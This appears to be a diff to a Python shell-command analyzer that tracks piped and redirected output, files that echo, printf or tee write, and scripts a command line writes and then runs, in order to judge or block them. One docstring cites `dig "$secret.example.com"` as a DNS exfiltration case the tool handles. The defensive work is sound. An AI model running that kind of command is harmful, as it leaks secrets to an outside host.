@@ -57,6 +57,7 @@ class CommandReader(abc.ABC):
         self.steps: list[Step] = []
         self.left = _MOST_STEPS
         self.exhausted = False
+        self.piped = False
         self.templates: dict[Prefix | Unknown | Glob, str] = {}
 
     @abc.abstractmethod
@@ -73,7 +74,8 @@ class CommandReader(abc.ABC):
 
     def simple(self, command: Simple, scope: Scope, context: Context) -> str | None:
         """Follows a simple command; gives back what it certainly prints."""
-        arguments, doubts = self._resolved(command.words, scope, context)
+        piped, self.piped = self.piped, False
+        arguments, doubts, spoken = self._resolved(command.words, scope, context)
         assignments: tuple[tuple[str, Argument], ...] = ()
         if command.assignments:
             assignments, computed = self._assigned(command.assignments, scope, context)
@@ -91,17 +93,31 @@ class CommandReader(abc.ABC):
             if not fed.certain:
                 doubts = (*doubts, "the here-document is not certain")
         text = context.source[command.span.start : command.span.end]
-        self.command(tuple(arguments), assignments, effects, doubts, scope, context, command.span, text)
-        if name in outputs.NAMES:
-            return outputs.printed(arguments, context.stdin, scope.cwds[0] if len(scope.cwds) == 1 else None)
-        return None
+        self.command(tuple(arguments), assignments, effects, doubts, scope, context, command.span, text, spoken)
+        if name not in outputs.NAMES or not (piped or command.redirections or name == "tee"):
+            return None
+        printed = outputs.printed(arguments, context.stdin, scope)
+        if printed is not None:
+            self._remember(command, arguments, printed, scope)
+        return printed
+
+    @staticmethod
+    def _remember(command: Simple, arguments: list[Argument], printed: str, scope: Scope) -> None:
+        """Notes the files into which a command certainly prints."""
+        for redirection in command.redirections:
+            if redirection.operator in (">", ">|", ">>", "&>") and redirection.descriptor in (None, 1):
+                outputs.keep(arguments, words.one(redirection.target, scope), printed, scope)
+        if inside.text_of(arguments[0]) == "tee":
+            for argument in arguments[1:]:
+                outputs.keep(arguments, argument, printed, scope)
 
     def _resolved(
         self, written: tuple[Word, ...], scope: Scope, context: Context
-    ) -> tuple[list[Argument], tuple[str, ...]]:
-        """Resolves the words of a command, and says which of them are computed."""
+    ) -> tuple[list[Argument], tuple[str, ...], tuple[Argument, ...]]:
+        """Resolves the words of a command, and says which of them are computed, and which of those are only printed."""
         arguments: list[Argument] = []
         doubts = context.doubts
+        spoken: tuple[Argument, ...] = ()
         for word in written:
             found = words.resolve(word, scope)
             arguments.extend(found)
@@ -109,11 +125,14 @@ class CommandReader(abc.ABC):
                 continue
             self.expansions(word.parts, scope, context)
             if words.is_computed(word):
-                doubts = (*doubts, f"{word.raw} is computed when the line runs")
+                if _prints(arguments, found) and words.is_spoken(word, scope):
+                    spoken = (*spoken, *found)
+                else:
+                    doubts = (*doubts, f"{word.raw} is computed when the line runs")
             for argument in found:
                 if not isinstance(argument, Known):
                     self.templates[argument] = words.template(word.parts, scope)
-        return arguments, doubts
+        return arguments, doubts, spoken
 
     def _assigned(
         self, written: tuple[Assignment, ...], scope: Scope, context: Context
@@ -128,6 +147,10 @@ class CommandReader(abc.ABC):
                 self.expansions(word.parts, scope, context)
                 if words.is_computed(word):
                     doubts.append(f"{assignment.name} is computed when the line runs")
+            if assignment.items is not None:
+                items = tuple(found for word in assignment.items for found in words.resolve(word, scope))
+                before = scope.variables.get(f"{assignment.name}[@]", ()) if assignment.append else ()
+                scope.vary(f"{assignment.name}[@]", (*before, *items))
             if assignment.items is not None or assignment.append:
                 value = Unknown(f"${assignment.name}", quoted=False)
             assignments.append((assignment.name, value))
@@ -165,7 +188,7 @@ class CommandReader(abc.ABC):
             written = tuple(f"{name}={shown(value) or '…'}" for name, value in assignments)
             self.step((), effects, doubts, span, context, self.slice(span, context), written)
 
-    def command(
+    def command(  # noqa: PLR0913, PLR0917 - what surrounds a command, at the one place where all of it meets
         self,
         arguments: tuple[Argument, ...],
         assignments: tuple[tuple[str, Argument], ...],
@@ -175,6 +198,7 @@ class CommandReader(abc.ABC):
         context: Context,
         span: Span,
         text: str,
+        spoken: tuple[Argument, ...] = (),
     ) -> None:
         """Notes one command whose words are resolved, and follows what it starts."""
         if self.left <= 0 or context.depth > MOST_DEPTH:
@@ -198,18 +222,33 @@ class CommandReader(abc.ABC):
             doubts = (*doubts, "code that cannot be read ran before it")
         if name in _MOVING:
             shell_state.follow(name, rest, scope)
-            reached = (Reads(paths.target(_folder(found), None, scope.surroundings)) for found in scope.cwds)
+            reached = [
+                Reads(paths.target(_folder(found), None, scope.surroundings), content=False) for found in scope.cwds
+            ]
             effects = (*effects, *reached)
         wraps = bool(started) and any(not (isinstance(found, inside.Code) and found.recipe) for found in started)
-        self.step(invocations, effects, doubts, span, context, text, _known(arguments), wraps=wraps)
+        self.step(invocations, effects, doubts, span, context, text, _known(arguments), wraps=wraps, spoken=spoken)
         for found in started:
             self._inner(found, name, scope, context, span)
+        if scope.files:
+            self._written_before(program, name, rest, scope, context, span)
         if name in scope.functions and not context.wrappers:
             self._call(name, rest, scope, context)
         if name in shell_state.NAMES and name not in _MOVING:
-            shell_state.follow(name, rest, scope)
+            shell_state.follow(name, rest, scope, context.stdin)
         if name in verbs.NETWORK and not all(isinstance(argument, Known) for argument in rest):
             self._guessed(arguments, scope, context, span, text)
+
+    def _written_before(
+        self, program: Argument, name: str, rest: tuple[Argument, ...], scope: Scope, context: Context, span: Span
+    ) -> None:
+        """Looks into a script that the line itself wrote before it runs it; this may block, and allows nothing."""
+        script = program if isinstance(program, Known) and "/" in program.text else None
+        if name in _READERS:
+            script = next((word for word in rest if isinstance(word, Known) and word.text[:1] not in ("-", "+")), None)
+        text = outputs.kept(script.text, scope) if script is not None else None
+        if text is not None:
+            self._inner(inside.Code(text, recipe=True), name, scope, context, span)
 
     def _guessed(self, arguments: tuple[Argument, ...], scope: Scope, context: Context, span: Span, text: str) -> None:
         """Judges `dig "$secret.example.com"`: whatever the hole holds, the end of the host is certain."""
@@ -309,7 +348,7 @@ class CommandReader(abc.ABC):
         """Notes something that is no command."""
         self.step((), (), (doubt, *context.doubts), span, context, self.slice(span, context), ())
 
-    def step(
+    def step(  # noqa: PLR0913 - the fields of a step
         self,
         invocations: tuple[Invocation, ...],
         effects: tuple[Effect, ...],
@@ -320,11 +359,12 @@ class CommandReader(abc.ABC):
         known: tuple[str | None, ...],
         *,
         wraps: bool = False,
+        spoken: tuple[Argument, ...] = (),
     ) -> None:
         """Notes one command."""
         self.left -= 1 + len(known) // 8
         self.steps.append(
-            Step(invocations, effects, doubts, context.span or span, text, known, wraps, context.only_blocks)
+            Step(invocations, effects, doubts, context.span or span, text, known, wraps, context.only_blocks, spoken)
         )
 
     def slice(self, span: Span, context: Context) -> str:
@@ -344,6 +384,17 @@ class CommandReader(abc.ABC):
                 return pattern
             case _:
                 assert_never(argument)
+
+
+def _prints(arguments: list[Argument], found: tuple[Argument, ...]) -> bool:
+    """Tells whether the last of these arguments are words that `echo` or, behind its format, `printf` only prints."""
+    before = len(arguments) - len(found)
+    program = arguments[0]
+    if not isinstance(program, Known) or before == 0:
+        return False
+    return program.text == "echo" or (
+        program.text == "printf" and before > 1 and isinstance(arguments[1], Known) and arguments[1].text[:1] != "-"
+    )
 
 
 def shown(argument: Argument) -> str | None:
